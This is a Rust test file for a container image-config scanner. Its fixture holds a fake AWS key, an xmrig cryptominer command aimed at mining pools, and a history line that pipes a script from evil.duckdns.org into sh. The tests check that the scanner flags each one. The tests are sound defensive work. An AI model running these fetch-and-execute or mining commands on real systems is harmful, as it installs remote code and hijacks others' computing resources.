//! The image-config scan.

use hubcensus_layer::{ConfigError, Limits};
use hubcensus_types::{Category, Subject};

use crate::support::*;

#[test]
fn env_cmd_history_and_labels_are_scanned_as_fields() {
    let config = serde_json::json!({
        "architecture": "amd64",
        "os": "linux",
        "config": {
            "Env": ["PATH=/usr/bin", "AWS_ACCESS_KEY_ID=AKIAQ3EGRN5ZJ7XKXV4P", null],
            "Cmd": ["./xmrig", "--donate-level", "1", "-o", "stratum+tcp://pool.minexmr.com:4444"],
            "Labels": {"maintainer": "x", "pool": "stratum+ssl://gulf.moneroocean.stream:20128"},
            "Healthcheck": null,
            "Volumes": null
        },
        "history": [
            {"created_by": "/bin/sh -c #(nop) ADD file:abc in /"},
            {"created_by": "/bin/sh -c curl -s http://evil.duckdns.org/i.sh | sh", "empty_layer": true}
        ],
        "rootfs": {"type": "layers", "diff_ids": []}
    });
    let w = walker(Limits::default());
    let scan = w.scan_config(serde_json::to_vec(&config).unwrap().as_slice());
    assert_eq!(scan.error, None);
    let has = |rule: &str, path: &str| scan.findings.iter().any(|f| f.rule == rule && f.path == path);
    assert!(has("aws_access_key_id", "config.Env[1]"), "{:?}", scan.findings);
    assert!(has("stratum_url", "config.Cmd"), "{:?}", scan.findings);
    assert!(has("stratum_url", "config.Labels.pool"), "{:?}", scan.findings);
    assert!(
        scan.findings.iter().any(|f| f.category == Category::DynamicDns && f.path == "history[1].created_by"),
        "{:?}",
        scan.findings
    );
    assert!(scan.findings.iter().all(|f| f.subject == Subject::Config));
    assert!(
        scan.indicators.iter().any(|(i, p)| i.value == "evil.duckdns.org" && p == "history[1].created_by")
    );
}

#[test]
fn malformed_configs_are_errors_not_panics() {
    let w = walker(Limits::default());
    assert!(matches!(w.scan_config(b"{not json").error, Some(ConfigError::NotJson(_))));
    assert_eq!(w.scan_config(b"[1,2]").error, Some(ConfigError::NotAnObject));
    assert_eq!(w.scan_config(b"{}").error, None);
    let deep = "[".repeat(100_000);
    assert!(matches!(w.scan_config(deep.as_bytes()).error, Some(ConfigError::NotJson(_))));
    let odd =
        br#"{"config": {"Env": "x", "Cmd": 7, "Labels": [1], "Entrypoint": [null, 3]}, "history": "none"}"#;
    let scan = w.scan_config(odd);
    assert_eq!((scan.error, scan.findings.len()), (None, 0));
}
